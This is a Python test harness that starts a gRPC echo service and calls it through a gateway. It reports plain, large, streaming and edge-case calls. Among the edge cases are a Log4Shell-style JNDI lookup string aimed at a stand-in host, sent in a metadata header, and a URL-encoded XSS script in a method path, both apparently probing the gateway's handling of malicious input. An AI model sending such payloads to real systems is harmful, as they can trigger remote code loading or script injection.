"""A service of gRPC and its client in one process: `echo_service.py GATE PORT` serves on PORT what a gate leads
there, calls it through GATE, and prints what came of each call."""

import json
import queue
import sys
from concurrent import futures

import grpc

PATIENCE = 20


class Echo(grpc.GenericRpcHandler):
    def service(self, details):
        if details.method == "/demo.Echo/Say":
            return grpc.unary_unary_rpc_method_handler(lambda said, _: b"said " + said)
        if details.method == "/demo.Echo/Talk":
            return grpc.stream_stream_rpc_method_handler(talk)
        return None


def talk(requests, _):
    for request in requests:
        yield b"heard " + request


def conversation(channel):
    """Each message waits for the answer to the one before: nothing on the way may hold them back."""
    said = queue.Queue()
    said.put(b"one")
    heard = []
    for answer in channel.stream_stream("/demo.Echo/Talk")(iter(said.get, None), timeout=PATIENCE):
        heard.append(answer.decode())
        said.put(b"two" if len(heard) == 1 else None)
    return heard


def outcome(call, *metadata):
    try:
        return call(b"hello", timeout=PATIENCE, metadata=metadata).decode()
    except grpc.RpcError as error:
        return error.code().name


gate, port = sys.argv[1], sys.argv[2]
server = grpc.server(futures.ThreadPoolExecutor(4), handlers=(Echo(),))
server.add_insecure_port(f"127.0.0.1:{port}")
server.start()
with grpc.insecure_channel(gate) as channel:
    say = channel.unary_unary("/demo.Echo/Say")
    print(json.dumps({
        "said": outcome(say),
        "large": len(say(b"x" * 1_000_000, timeout=PATIENCE)),
        "conversation": conversation(channel),
        "metadata": outcome(say, ("x-note", "${jndi:ldap://a.example/x}")),
        "path": outcome(channel.unary_unary("/demo.Echo/%3Cscript%3Ealert(1)%3C/script%3E")),
        "unknown": outcome(channel.unary_unary("/demo.Echo/Nothing")),
    }))
server.stop(None)
